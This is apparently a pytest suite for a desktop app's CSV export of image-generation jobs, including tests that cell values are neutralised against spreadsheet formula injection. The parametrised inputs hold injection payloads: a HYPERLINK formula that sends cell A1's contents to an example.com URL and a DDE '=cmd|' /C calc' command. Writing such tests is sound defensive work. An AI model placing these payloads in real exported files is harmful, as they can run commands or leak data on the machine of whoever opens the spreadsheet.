"""What python's csv module reads back from jobs written as CSV."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dreamina_desktop.core.export.csv_table import HEADINGS, csv_headings, csv_rows
from dreamina_desktop.core.jobs.job import Image, ImageKey, ImageState, Job, Tracking
from dreamina_desktop.core.jobs.record import ImageEntry, JobRecord


def job(number: int = 7, prompt: str | None = "A boat") -> Job:
    entries = [ImageEntry(n, asset_ref=f"ref {n}") for n in range(5)]
    images = tuple(
        Image(ImageKey(number, n), entry, ImageState.SAVED, f"/images/{n}.jpg")
        for n, entry in enumerate(entries)
    )
    record = JobRecord(
        f"j{number}",
        "completed",
        model="seedream-4.0",
        ratio="16:9",
        resolution="2k",
        prompt=prompt,
        created=datetime(2026, 3, 2, 14, 5, 30, 123_000, UTC),
        updated=datetime(2026, 3, 2, 14, 6, 7, 900_000, UTC),
    )
    return Job(number, f"j{number}", 3, 0.0, Tracking.DONE, record=record, images=images)


def read(*jobs: Job) -> list[dict[str, str]]:
    data = (csv_headings() + csv_rows(jobs)).encode()
    text = data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert text.count("\r\n") == text.count("\n") == text.count("\r") == len(jobs) + 1
    return rows


def test_a_row_says_what_a_job_is() -> None:
    (row,) = read(job())
    assert tuple(row) == HEADINGS
    assert row == {
        "number": "7",
        "job ID": "j7",
        "status": "completed",
        "cause": "",
        "prompt": "A boat",
        "model": "seedream-4.0",
        "ratio": "16:9",
        "resolution": "2k",
        "created (UTC)": "2026-03-02 14:05:30",
        "updated (UTC)": "2026-03-02 14:06:07",
        "seconds": "38",
        "images": "5",
        "saved": "5",
        "batch": "3",
        **{f"reference {n + 1}": f"ref {n}" for n in range(4)},
        **{f"file {n + 1}": f"/images/{n}.jpg" for n in range(4)},
        "label": "",
    }


def test_a_label_is_the_first_of_the_later_columns_and_no_formula() -> None:
    (row,) = read(replace(job(), given_label="=HYPERLINK(1)"))
    assert row["label"] == "'=HYPERLINK(1)"
    assert HEADINGS[22] == "label"


def test_a_job_without_a_record_has_empty_values() -> None:
    (row,) = read(Job(8, "j8", 1, 0.0))
    assert {name for name, value in row.items() if value} == {
        *("number", "job ID", "status", "images", "saved", "batch")
    }
    assert (row["images"], row["status"]) == ("0", "not checked yet")


def test_a_failure_says_its_cause() -> None:
    record = JobRecord("j8", "failed", code="2038", error="fail_code: 2038")
    (row,) = read(Job(8, "j8", 1, 0.0, Tracking.DONE, record=record))
    assert row["status"] == "failed"
    assert "content filter" in row["cause"]


def test_a_file_stands_below_the_number_of_its_image_and_is_named_only_when_it_is_there() -> None:
    there = job()
    images = (
        replace(there.images[0], state=ImageState.TRASHED, file=None),
        replace(there.images[1], state=ImageState.PENDING, file="/images/early.jpg"),
        there.images[2],
    )
    (row,) = read(replace(there, images=images))
    assert [row[f"file {n}"] for n in (1, 2, 3, 4)] == ["", "", "/images/2.jpg", ""]
    assert [row[f"reference {n}"] for n in (1, 2, 3, 4)] == ["ref 0", "ref 1", "ref 2", ""]
    assert (row["images"], row["saved"]) == ("3", "1")


def test_a_job_that_runs_has_no_seconds_yet() -> None:
    there = job()
    assert there.record is not None
    running = replace(there, record=replace(there.record, status="created"))
    assert read(running)[0]["seconds"] == ""


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1",
        "-1",
        "--ar 16:9",
        "@SUM(1+1)",
        "\t=1",
        "\r\n=1",
        "\x00=1",
        "  =1",
        "\ud800\x00",
    ],
)
def test_no_value_is_a_formula(text: str) -> None:
    (row,) = read(job(prompt=text))
    assert row["prompt"] == ("?" if text == "\ud800\x00" else f"'{text.strip(chr(0)).strip()}")


def test_a_spreadsheet_that_divides_by_semicolons_finds_no_formula_either() -> None:
    (row,) = read(job(prompt="a boat;=1+1;@x; b\n=2"))
    assert row["prompt"] == "a boat;'=1+1;'@x; b =2"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('a "red" boat, at dawn', 'a "red" boat, at dawn'),
        ('"', '"'),
        ("a\r\nb\nc\rd\te", "a  b c d e"),
        ("a\x00b\x1b[31m\x85\u2028c", "a b [31m  c"),
        ("极光, 夜の東京 👵🏽 قارب", "极光, 夜の東京 👵🏽 قارب"),
        ("half \ud83d of one", "half ? of one"),
        ("#REF! \\ %s 'quoted'", "#REF! \\ %s 'quoted'"),
    ],
)
def test_a_prompt_comes_back_on_one_line(text: str, shown: str) -> None:
    first, second = read(job(7, text), job(8, text))
    assert first["prompt"] == second["prompt"] == shown


@given(st.lists(st.text(st.characters(codec=None)), min_size=1, max_size=4))
def test_rows_and_columns_stay_apart_whatever_is_in_them(texts: list[str]) -> None:
    rows = read(*(job(number, text) for number, text in enumerate(texts)))
    assert [row["number"] for row in rows] == [str(number) for number in range(len(texts))]
    assert {row["file 4"] for row in rows} == {"/images/3.jpg"}
    assert not any(re.match(r"[=+\-@\t\r\n]", row["prompt"]) for row in rows)


def test_an_excel_that_reads_the_file_knows_that_it_is_utf_8() -> None:
    assert csv_headings().encode().startswith(b"\xef\xbb\xbfnumber,job ID,status,")
